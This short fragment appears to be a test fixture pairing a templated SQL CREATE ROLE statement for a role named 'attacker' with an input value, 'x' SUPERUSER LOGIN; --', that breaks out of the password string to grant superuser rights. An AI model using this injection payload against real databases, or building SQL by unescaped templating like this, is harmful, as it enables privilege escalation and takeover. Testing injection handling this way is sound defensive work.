CREATE ROLE attacker PASSWORD '{{ workload.a }}'
===
x' SUPERUSER LOGIN; --